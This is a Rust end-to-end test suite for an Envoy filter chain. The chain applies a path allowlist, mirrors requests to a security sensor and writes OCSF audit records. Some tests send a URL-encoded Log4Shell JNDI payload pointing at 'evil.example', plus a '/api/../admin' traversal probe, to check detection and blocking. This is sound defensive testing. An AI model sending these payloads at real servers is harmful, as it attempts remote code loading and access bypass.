#![cfg(feature = "e2e")]
//! The walking slice of the whole chain in a real Envoy, as `make run` wires it
//! (envoy-config/e2e/chain.yaml): allowlist -> mirror -> audit -> router -> echo upstream.
//! A path outside the allowlist gets 403 and never reaches the upstream; an allowed one does;
//! the mirror decision (header delivery) makes the route copy the request to the sensor; the
//! audit filter delivers one record per request, carrying both decisions, to the collector.

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use meshsight_rig::{send, try_send_raw, Collector, EchoUpstream, Envoy, HttpRequest, Sensor};
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(15);

const ALLOWLIST: &str = r#"{
  "mode": "enforce",
  "rules": [
    {"name": "health", "methods": ["GET"], "paths": ["/health"]},
    {"name": "api", "methods": ["GET", "POST"], "paths": ["/api/**"]}
  ]
}"#;

const MIRROR: &str = r#"{
  "targets": {"sensor": {"cluster": "sensor", "delivery": "header", "max_rps": 1000}},
  "rules": [
    {"name": "orders", "request": {"paths": [{"prefix": "/api/orders"}]},
     "action": {"type": "always"}}
  ]
}"#;

const AUDIT: &str = r#"{
  "format": "ocsf",
  "sink": {"http": {"cluster": "collector", "path": "/v1/audit", "flush_interval_ms": 200}}
}"#;

/// The chain with the helper servers it talks to.
struct Chain {
    upstream: EchoUpstream,
    sensor: Sensor,
    collector: Collector,
    envoy: Envoy,
}

fn start_chain() -> Chain {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let collector = Collector::start();
    let envoy = Envoy::builder("envoy-config/e2e/chain.yaml")
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .var("ALLOWLIST_CONFIG", ALLOWLIST)
        .var("MIRROR_CONFIG", MIRROR)
        .var("AUDIT_CONFIG", AUDIT)
        .start()
        .unwrap_or_else(|err| panic!("the chain must start: {err}"));
    Chain {
        upstream,
        sensor,
        collector,
        envoy,
    }
}

fn get(chain: &Chain, target: &str, request_id: &str) -> meshsight_rig::HttpResponse {
    send(
        chain.envoy.port(),
        &HttpRequest::get(target)
            .header("host", "shop.example.com")
            .header("x-request-id", request_id),
    )
}

/// Waits until the collector holds a record for each id (`metadata.uid`); returns them by id.
fn wait_for_records(collector: &Collector, ids: &[&str]) -> BTreeMap<String, Value> {
    let ids: Vec<String> = ids.iter().map(|id| id.to_string()).collect();
    collector
        .wait_for_records(&ids, WAIT)
        .unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn allowlist_refuses_a_path_outside_the_list_before_the_upstream() {
    let chain = start_chain();
    let denied = get(&chain, "/admin/users", "chain-denied");
    assert_eq!(denied.status, 403, "{}", denied.text());
    let dotted = get(&chain, "/api/../admin", "chain-dotted");
    assert_eq!(
        dotted.status,
        403,
        "/api/../admin is /admin: {}",
        dotted.text()
    );
    assert!(
        chain.upstream.requests().is_empty(),
        "a refused request reached the upstream: {:?}",
        chain.upstream.requests()
    );
    assert_eq!(
        chain
            .envoy
            .settled_stat("meshsight_allowlist_denied", 2, WAIT),
        Some(2)
    );
}

#[test]
fn allowed_request_reaches_the_upstream() {
    let chain = start_chain();
    let response = get(&chain, "/api/items?page=2", "chain-allowed");
    assert_eq!(response.status, 200, "{}", response.text());
    let echo = response.json().expect("the upstream's JSON echo");
    assert_eq!(echo["path"], "/api/items?page=2");
    assert_eq!(echo["headers"]["x-request-id"], "chain-allowed");
    let recorded = chain.upstream.wait_for(1, WAIT);
    assert_eq!(recorded.len(), 1);
    assert_eq!(recorded[0].path, "/api/items?page=2");
    assert_eq!(
        chain
            .envoy
            .settled_stat("meshsight_allowlist_allowed", 1, WAIT),
        Some(1)
    );
}

#[test]
fn mirror_decision_sends_a_copy_to_the_sensor() {
    let chain = start_chain();
    // Selected by the "orders" rule.
    assert_eq!(get(&chain, "/api/orders/42", "chain-rule").status, 200);
    // Selected by the Log4Shell signature, whatever the rules say.
    let jndi = "/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
    assert_eq!(get(&chain, jndi, "chain-signature").status, 200);

    let copies = chain.sensor.wait_for(2, WAIT);
    let mut paths: Vec<_> = copies.iter().map(|r| r.path.as_str()).collect();
    paths.sort_unstable();
    assert_eq!(
        paths,
        vec![
            "/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
            "/api/orders/42"
        ]
    );
    for copy in &copies {
        // Envoy marks a shadow request's authority with "-shadow".
        assert_eq!(
            copy.header("host"),
            Some("shop.example.com-shadow"),
            "{copy:?}"
        );
    }
    assert_eq!(
        chain
            .envoy
            .settled_stat("meshsight_mirror_mirrored_sensor_rule", 1, WAIT),
        Some(1)
    );
    assert_eq!(
        chain
            .envoy
            .settled_stat("meshsight_mirror_mirrored_sensor_signature", 1, WAIT),
        Some(1)
    );
    assert_eq!(
        chain
            .envoy
            .settled_stat("meshsight_mirror_signature_log4shell", 1, WAIT),
        Some(1)
    );
    // Both originals still reached the upstream.
    assert_eq!(chain.upstream.wait_for(2, WAIT).len(), 2);
}

#[test]
fn audit_delivers_one_record_per_request_with_both_decisions() {
    let chain = start_chain();
    assert_eq!(get(&chain, "/api/items", "audit-allowed").status, 200);
    assert_eq!(get(&chain, "/admin", "audit-denied").status, 403);
    assert_eq!(get(&chain, "/api/orders/7", "audit-mirrored").status, 200);

    let records = wait_for_records(
        &chain.collector,
        &["audit-allowed", "audit-denied", "audit-mirrored"],
    );
    let allowed = records
        .get("audit-allowed")
        .expect("record of the allowed request");
    let denied = records
        .get("audit-denied")
        .expect("record of the denied request");
    let mirrored = records
        .get("audit-mirrored")
        .expect("record of the mirrored request");

    for record in [allowed, denied, mirrored] {
        assert_eq!(record["class_uid"], 4002, "{record}");
        assert_eq!(record["metadata"]["version"], "1.7.0", "{record}");
    }
    assert_eq!(allowed["action"], "Allowed", "{allowed}");
    assert_eq!(allowed["firewall_rule"]["name"], "api", "{allowed}");
    assert_eq!(allowed["http_response"]["code"], 200, "{allowed}");
    assert_eq!(
        allowed["unmapped"]["meshsight"]["mirror"]["mirrored"], false,
        "{allowed}"
    );

    assert_eq!(denied["action"], "Denied", "{denied}");
    assert_eq!(denied["disposition"], "Blocked", "{denied}");
    assert_eq!(denied["http_response"]["code"], 403, "{denied}");
    assert_eq!(denied["http_request"]["url"]["path"], "/admin", "{denied}");

    let mirror = &mirrored["unmapped"]["meshsight"]["mirror"];
    assert_eq!(mirror["mirrored"], true, "{mirrored}");
    assert_eq!(mirror["target"], "sensor", "{mirrored}");
    assert_eq!(mirror["rule"], "orders", "{mirrored}");

    // Every request is accounted for: recorded and, here, delivered.
    assert!(chain
        .envoy
        .wait_for_stat("meshsight_audit_delivered", 3, WAIT)
        .is_some());
    assert_eq!(
        chain.envoy.settled_stat("meshsight_audit_records", 3, WAIT),
        Some(3)
    );
}

/// `make run` prints curl lines and says what each does; this is that promise, checked on the
/// demo's own config (envoy-config/envoy.yaml) with its inline policies.
#[test]
fn demo_config_does_what_make_run_prints() {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let collector = Collector::start();
    let envoy = Envoy::builder("envoy-config/envoy.yaml")
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .concurrency(2)
        .start()
        .unwrap_or_else(|err| panic!("the demo config must start: {err}"));
    let get = |target: &str| send(envoy.port(), &HttpRequest::get(target)).status;

    assert_eq!(get("/api/items"), 200, "allowed");
    assert_eq!(get("/admin"), 403, "outside the list");
    assert_eq!(get("/api/../admin"), 403, "dot-segments resolved");
    assert_eq!(get("/api/orders/42"), 200, "mirrored by rule, still served");
    let jndi = "/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
    assert_eq!(get(jndi), 200, "mirrored by signature, still served");
    let attack = "/admin?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
    assert_eq!(get(attack), 403, "a blocked attack");

    // "each request also yields an OCSF audit record, POSTed to the collector"
    let deadline = Instant::now() + WAIT;
    let mut records: Vec<Value> = Vec::new();
    while records.len() < 6 && Instant::now() < deadline {
        records = collector
            .bodies()
            .iter()
            .flat_map(|b| {
                String::from_utf8_lossy(b)
                    .lines()
                    .filter(|l| !l.trim().is_empty())
                    .map(|l| serde_json::from_str(l).expect("a JSON record"))
                    .collect::<Vec<Value>>()
            })
            .collect();
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(records.len(), 6, "one audit record per request");
    // What the mirror filter decided for each request, to explain a wrong copy.
    let decisions: Vec<String> = records
        .iter()
        .map(|r| {
            format!(
                "{} -> {}",
                r["http_request"]["url"]["url_string"], r["unmapped"]["meshsight"]["mirror"]
            )
        })
        .collect();

    // The rule and the signatures always mirror, the denied requests with a signature too (the
    // demo is one plugin: its signatures see what its allowlist blocks); the demo policy also
    // samples a share of the rest (deterministically on x-request-id), so /api/items may be
    // there too, but then only because the mirror said "sample".
    let copies = sensor.wait_for(4, WAIT);
    let mirrored: Vec<_> = copies.iter().map(|r| r.path.as_str()).collect();
    assert!(mirrored.contains(&"/api/orders/42"), "{decisions:#?}");
    assert!(mirrored.contains(&jndi), "{decisions:#?}");
    for copy in &copies {
        let url = format!("http://localhost{}", copy.path);
        let decision = records
            .iter()
            .find(|r| r["http_request"]["url"]["url_string"] == url.as_str())
            .map(|r| &r["unmapped"]["meshsight"]["mirror"])
            .unwrap_or_else(|| panic!("no audit record for {url}: {decisions:#?}"));
        assert_eq!(decision["mirrored"], true, "copy of {url}: {decisions:#?}");
        if copy.path == "/api/items" {
            assert_eq!(decision["reason"], "sample", "{decisions:#?}");
        }
    }
    assert!(
        !mirrored.contains(&"/admin"),
        "a refused request without a signature was mirrored: {decisions:#?}"
    );
    // Blocked attacks reach the sensor, sent by the plugin, and the collector as alerts.
    for blocked in ["/api/../admin", attack] {
        let copy = copies
            .iter()
            .find(|c| c.path == blocked)
            .unwrap_or_else(|| panic!("blocked attack {blocked} not copied: {decisions:#?}"));
        assert_eq!(copy.header("x-meshsight-mirror-reason"), Some("signature"));
        let record = records
            .iter()
            .find(|r| {
                r["http_request"]["url"]["url_string"] == format!("http://localhost{blocked}")
            })
            .unwrap_or_else(|| panic!("no audit record for {blocked}: {decisions:#?}"));
        assert_eq!(record["disposition"], "Blocked", "{record}");
        assert_eq!(record["is_alert"], true, "{record}");
    }
    // The module flushes its counters on its tick: Envoy shows them within one period.
    assert_eq!(
        envoy.settled_stat("meshsight_allowlist_denied", 3, WAIT),
        Some(3),
        "{}",
        envoy
            .admin_get("/stats?filter=meshsight")
            .map(|r| r.text())
            .unwrap_or_default()
    );
}

/// A header value that is not UTF-8 (HTTP/1.1 allows obs-text bytes in values, and Envoy passes
/// them on) must not abort a filter's VM: the proxy-wasm SDK's string header accessors panic on
/// such bytes, and a panicked VM fails every later request on that worker.
#[test]
fn a_latin1_header_value_passes_the_chain_and_later_requests_still_pass() {
    let chain = start_chain();
    let timeout = Duration::from_secs(10);
    let requests: [&[u8]; 3] = [
        b"GET /api/orders/1 HTTP/1.1\r\nhost: shop\r\nuser-agent: caf\xe9\r\n\r\n",
        b"GET /api/orders/2 HTTP/1.1\r\nhost: shop\r\nx-meshsight-mirror: \xff\r\n\r\n",
        b"GET /api/orders/3 HTTP/1.1\r\nhost: shop\r\n\r\n",
    ];
    for (i, bytes) in requests.iter().enumerate() {
        let response = try_send_raw(chain.envoy.port(), "GET", bytes, timeout)
            .unwrap_or_else(|err| panic!("request {i}: no response: {err}"));
        assert_eq!(
            response.status,
            200,
            "request {i} answered {}; Envoy log:\n{}",
            response.status,
            chain.envoy.log()
        );
    }
    let log = chain.envoy.log();
    assert!(
        !log.contains("panicked"),
        "a filter panicked; Envoy log:\n{log}"
    );
    assert_eq!(
        chain.upstream.requests().len(),
        3,
        "every request reached the upstream"
    );
}
